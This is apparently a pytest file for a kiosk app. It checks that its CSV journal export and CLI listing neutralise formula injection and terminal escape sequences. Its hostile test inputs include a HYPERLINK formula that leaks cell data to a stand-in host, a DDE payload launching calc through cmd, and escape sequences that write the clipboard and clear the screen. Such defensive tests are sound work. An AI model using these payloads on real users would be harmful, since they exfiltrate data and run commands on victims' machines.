"""Point 13: server-provided text must not become a spreadsheet formula or a terminal escape."""

from __future__ import annotations

import contextlib
import csv
import io
import sqlite3
from pathlib import Path

import pytest

from kiosk.cli import main
from kiosk.core import state as machine
from kiosk.core.journal import COLUMNS, Journal
from kiosk.core.models import SessionStatus
from kiosk.core.qr import encode
from kiosk.core.spreadsheet import spreadsheet_cell
from kiosk.core.state import ActiveSession, KioskState, Phase

URL = "https://cloud.ooto-ai.com/flow/tok-0123456789abcdef"
HOSTILE_IDS = [
    '=HYPERLINK("https://evil.test/?d="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


def _journal_with(path: Path, session_id: str, template_id: str) -> None:
    session = ActiveSession(session_id, "tok", URL, "cloud.ooto-ai.com", encode(URL), ("search",))
    status = SessionStatus.from_wire(
        {
            "status": "DONE",
            "scopes": ["search"],
            "result": {"search": {"similarity": 0.9, "templateId": template_id}},
        }
    )
    with Journal(path) as journal:
        state = machine.status_received(KioskState(phase=Phase.QR, session=session), status)
        journal.finished(journal.started(session), state)


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_export_neutralises_formula_cells(tmp_path: Path, hostile: str) -> None:
    path = tmp_path / "j.sqlite3"
    _journal_with(path, hostile, hostile)
    out = io.StringIO()
    with Journal(path, read_only=True) as journal:
        journal.export_csv(out)
    [_, row] = list(csv.reader(io.StringIO(out.getvalue())))
    for column in ("session_id", "template_id"):
        cell = row[COLUMNS.index(column)]
        assert cell == "'" + hostile  # shown as text, still readable
    assert row[COLUMNS.index("similarity")] == "0.9"  # numbers are left alone


def test_cells_starting_with_tab_or_cr_are_neutralised_too(tmp_path: Path) -> None:
    # The client now strips control characters from server text, but rows written before
    # (or by another tool) reach the export as they are.
    path = tmp_path / "j.sqlite3"
    with Journal(path):
        pass
    with contextlib.closing(sqlite3.connect(path)) as raw, raw:
        raw.execute(
            "INSERT INTO sessions (session_id, started_at, scopes, error) VALUES (?, ?, ?, ?)",
            ("\t=1+1", "2026-01-01T00:00:00+00:00", "liveness", "\r@SUM(A1)"),
        )
    out = io.StringIO()
    with Journal(path, read_only=True) as journal:
        journal.export_csv(out)
    [_, row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[COLUMNS.index("session_id")] == "'\t=1+1"
    assert row[COLUMNS.index("error")] == "'\r@SUM(A1)"


def test_negative_numbers_stay_numbers() -> None:
    assert spreadsheet_cell(-0.5) == -0.5
    assert spreadsheet_cell("plain") == "plain"


def test_the_cli_export_file_is_neutralised(tmp_path: Path) -> None:
    path = tmp_path / "j.sqlite3"
    _journal_with(path, HOSTILE_IDS[0], "tpl")
    out = tmp_path / "sessions.csv"
    assert main(["journal", "export", "--journal", str(path), "-o", str(out)]) == 0
    text = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and "\n=HYPERLINK" not in text


def test_journal_list_strips_escape_sequences(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "j.sqlite3"
    session = ActiveSession(
        "sid", "tok", URL, "cloud.ooto-ai.com", encode(URL), ("liveness\x1b]52;c;SGk=\x07",)
    )
    with Journal(path) as journal:
        journal.finished(journal.started(session), KioskState(), "\x1b[2J\x1b]0;pwned\x07")
    assert main(["journal", "list", "--journal", str(path)]) == 0
    printed = capsys.readouterr().out
    assert "\x1b" not in printed and "\x07" not in printed
    assert "[2J" in printed  # the rest of the text is kept, visibly
